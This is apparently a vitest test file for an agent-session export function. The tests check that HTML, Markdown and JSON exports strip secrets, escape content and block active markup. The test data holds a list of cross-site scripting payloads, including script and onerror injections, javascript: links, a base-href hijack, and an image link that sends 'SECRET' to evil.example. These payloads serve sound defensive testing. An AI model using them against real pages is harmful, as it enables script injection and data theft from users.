import type { Entry, SessionHeader } from '@black-ide/protocol';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportSession } from './export-session.ts';

const HEADER: SessionHeader = {
  type: 'session',
  version: 3,
  id: '4f1c2a7b-0000-4000-8000-000000000001',
  timestamp: '2026-11-30T13:44:00.000Z',
  cwd: '/home/ada/notes',
};
const KEY = 'sk-ant-api03-a1B2c3D4e5F6g7H8i9J0';
const PNG = 'iVBORw0KGgo=';

function log(...parts: Record<string, unknown>[]): Entry[] {
  return parts.map(
    (part, i) =>
      ({
        ...part,
        id: String(i).padStart(8, '0'),
        parentId: i === 0 ? null : String(i - 1).padStart(8, '0'),
        timestamp: '2026-11-30T13:45:00.000Z',
      }) as unknown as Entry,
  );
}
const user = (content: unknown) => ({ type: 'message', message: { role: 'user', content, timestamp: 0 } });
const assistant = (content: unknown[]) => ({
  type: 'message',
  message: { role: 'assistant', content, provider: 'anthropic', model: 'm', stopReason: 'stop', timestamp: 0 },
});
const call = (id: string, name: string, args: object) => ({ type: 'toolCall', id, name, arguments: args });
const result = (toolCallId: string, toolName: string, text: string, details?: object, isError = false) => ({
  type: 'message',
  message: {
    role: 'toolResult',
    toolCallId,
    toolName,
    content: [{ type: 'text', text }],
    details,
    isError,
    timestamp: 0,
  },
});

async function exported(entries: Entry[], format: 'html' | 'md' | 'json' = 'html', known: string[] = []) {
  return exportSession({ path: '/x.jsonl', header: HEADER, entries, problems: [] }, { format, known });
}

const WORK = log(
  user([
    { type: 'text', text: `Fix it. The key is ${KEY}` },
    { type: 'image', data: PNG, mimeType: 'image/png' },
  ]),
  assistant([
    { type: 'thinking', thinking: 'Hm.' },
    { type: 'text', text: 'I **look**.' },
    call('c1', 'edit_file', { path: 'a.ts', old_string: 'x', new_string: 'y' }),
    call('c2', 'run_command', { command: 'npm test' }),
  ]),
  result('c1', 'edit_file', 'Edited a.ts (+1 −1).', { added: 1, removed: 1, diff: '@@ -1 +1 @@\n-x <b>\n+y\n' }),
  result('c2', 'run_command', '\u001b[31m1 failed\u001b[0m \u202eevil', { exitCode: 1, seconds: 1.25 }),
  assistant([{ type: 'text', text: '`````\ncode\n`````' }]),
  { type: 'custom', customType: 'task_end', data: { outcome: 'completed', message: 'All done.' } },
);

describe('exportSession', () => {
  it('SES-24 makes one page that loads nothing and runs nothing', async () => {
    const { content, fileName, redacted } = await exported(WORK);
    expect(fileName).toBe('black-2026-11-30-fix-it-the-key-is-redacted-4f1c2a7b.html');
    expect(redacted).toBe(1);
    expect(content).not.toContain(KEY);
    expect(content).toContain(`src="data:image/png;base64,${PNG}"`);
    expect(content).toMatch(
      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-/,
    );
    expect(content).not.toMatch(/<script|<link|<iframe|<object|<embed|@import|url\(|\son\w+=|src="(?!data:)/i);
    expect(content).toContain('<p>I <strong>look</strong>.</p>');
    expect(content).toContain('<del>-x &lt;b&gt;</del><ins>+y</ins>');
    expect(content).toContain(
      '<b>run_command</b> <span class="about">npm test</span> <span class="outcome">exit code 1 · 1.3 s',
    );
    expect(content).toContain('1 failed &lt;U+202E&gt;evil');
    expect(content).toContain('All done.');
    expect(content).toContain('1 secret was taken out');
  });

  it('SES-24 the policy allows the very style of the page', async () => {
    const { content } = await exported(WORK);
    const { createHash } = await import('node:crypto');
    const style = /<style>([\s\S]*?)<\/style>/.exec(content)![1]!;
    expect(content).toContain(`'sha256-${createHash('sha256').update(style).digest('base64')}'`);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '![x](https://evil.example/?q=SECRET)',
    '<a href="javascript:alert(1)">x</a>',
    '```"><script>alert(1)</script>\nx\n```',
    '| <script> |\n|---|\n| <svg onload=alert(1)> |',
    '[a]: javascript:alert(1)\n[a]',
    '<style>*{display:none}</style><base href=//evil>',
    '</pre></details></main><script>',
    `${'>'.repeat(30_000)} deep`,
    `${'[x]('.repeat(5_000)}`,
  ])('§5d content cannot become code: %.40s', async (text) => {
    const entries = log(
      user(text),
      assistant([{ type: 'thinking', thinking: text }, { type: 'text', text }, call('c', text, { command: text })]),
      result('c', text, text, { diff: text }),
      { type: 'custom', customType: 'task_end', data: { outcome: 'failed', message: text, next: text } },
      { type: 'custom_message', customType: text, content: text, display: true },
      { type: 'compaction', summary: text, firstKeptEntryId: 'x', tokensBefore: 1 },
    );
    const { content } = await exported(entries);
    const body = content.slice(content.indexOf('<body>'));
    const tags = new Set([...body.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name]) => name!.toLowerCase()));
    for (const tag of ['script', 'style', 'svg', 'base', 'iframe', 'link', 'img']) expect(tags).not.toContain(tag);
    for (const [, href] of body.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:|mailto:|#)/);
    for (const [tag] of body.matchAll(/<[a-z][^>]*>/g)) expect(tag).not.toMatch(/\son\w+\s*=/i);
  });

  it('§5d any text stays text: no tag comes out that the page does not make itself', async () => {
    const made =
      /^(?:section|h[1-6]|time|div|p|details|summary|b|span|pre|code|ins|del|a|em|strong|ul|ol|li|blockquote|hr|br|table|thead|tbody|tr|th|td|header|dl|dt|dd|main|footer|body|html|ol)$/;
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '`',
      '*',
      '_',
      '[',
      ']',
      '(',
      ')',
      '!',
      '#',
      '\n',
      ' ',
      'script',
      'javascript:',
      'onload=',
      'https://e.x/',
      '|',
      '-',
      '\\',
      '\u202e',
      '&lt;',
      '&#106;',
      '~',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
        async (text) => {
          const { content } = await exported(log(user(text), assistant([{ type: 'text', text }])));
          const body = content.slice(content.indexOf('<body>'));
          for (const [, name] of body.matchAll(/<\/?([a-z][a-z0-9]*)/gi)) expect(name).toMatch(made);
          for (const [, href] of body.matchAll(/\shref="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:|mailto:|#)/i);
          expect(body).not.toContain('\u202e');
        },
      ),
    );
  });

  it('SES-24 makes Markdown whose fences hold', async () => {
    const { content, fileName } = await exported(WORK, 'md');
    expect(fileName).toMatch(/\.md$/);
    expect(content).toContain('## You\n\nFix it. The key is [redacted]');
    expect(content).toContain('▸ **edit_file** `a.ts` +1 −1\n\n```diff\n@@ -1 +1 @@\n-x <b>\n+y\n```');
    expect(content).toContain('✗ **run_command** `npm test` exit code 1 · 1.3 s\n\n```\n1 failed');
  });

  it('SES-24 says of a command that was denied that it was refused, not that it failed', async () => {
    const denied = log(
      user('Deploy.'),
      assistant([call('c1', 'run_command', { command: './deploy.sh' })]),
      result('c1', 'run_command', 'Refused: A person denied it.', { refused: true }, true),
    );
    expect((await exported(denied, 'md')).content).toContain('✗ **run_command** `./deploy.sh` refused');
    expect((await exported(denied)).content).toContain('refused');
  });

  it('SES-24 makes JSON of the whole log, secrets taken out, and pictures and ids as they are', async () => {
    const { content, redacted } = await exported(WORK, 'json', ['All done']);
    const data = JSON.parse(content) as { header: SessionHeader; entries: Entry[] };
    expect(redacted).toBe(2);
    expect(data.header).toEqual(HEADER);
    expect(data.entries.map(({ id }) => id)).toEqual(WORK.map(({ id }) => id));
    expect(content).toContain(PNG);
    expect(content).not.toContain(KEY);
    expect(content).not.toContain('All done');
  });

  it('IDE-66 no place in the log keeps a secret from being taken out', async () => {
    const hidden = {
      id: KEY,
      messageId: KEY,
      signature: KEY,
      type: 'image',
      data: KEY,
      mimeType: 'x',
      deep: [{ version: KEY }],
    };
    const entries = log(
      user(KEY),
      assistant([{ type: 'thinking', thinking: KEY, thinkingSignature: 'c2ln' }, call('c', KEY, hidden)]),
      result('c', KEY, KEY, hidden),
      { type: 'custom', customType: 'x', data: hidden },
      { type: 'session_info', name: KEY },
      { type: 'label', targetId: '00000000', label: KEY },
      { type: KEY, [KEY.slice(0, 6)]: KEY },
    );
    for (const format of ['html', 'md', 'json'] as const) {
      const { content, fileName } = await exported(entries, format);
      expect(content).not.toContain(KEY);
      expect(fileName).not.toContain('a1b2c3d4');
    }
    expect((await exported(entries, 'json')).content).toContain('c2ln');
  });

  it('SES-6 exports what is damaged, foreign or empty', async () => {
    const odd = log({ type: 'message' }, { type: 'message', message: { role: 'x' } }, { type: 'unknown' }, user(17), {
      type: 'message',
      message: { role: 'user', content: [{ type: 'image', data: '"><script>', mimeType: 'image/svg+xml' }] },
    });
    for (const format of ['html', 'md', 'json'] as const) {
      expect((await exported(odd, format)).content).not.toBe('');
      expect((await exported([], format)).fileName).toContain('4f1c2a7b');
    }
    expect((await exported(odd)).content).not.toContain('<script');
  });

  it('SES-24 takes 10,000 entries', async () => {
    const turn = [
      user('A question with some words in it'),
      assistant([{ type: 'text', text: 'An **answer** with `code`.' }, call('c', 'read_file', { path: 'a.ts' })]),
      result('c', 'read_file', 'line\n'.repeat(40), { from: 1, to: 40 }),
      assistant([{ type: 'text', text: '- done\n- and done' }]),
    ];
    const entries = log(...Array.from({ length: 2_500 }, () => turn).flat());
    const { content } = await exported(entries);
    expect(content.match(/<section class="said you"/g)).toHaveLength(2_500);
  }, 20_000);
});
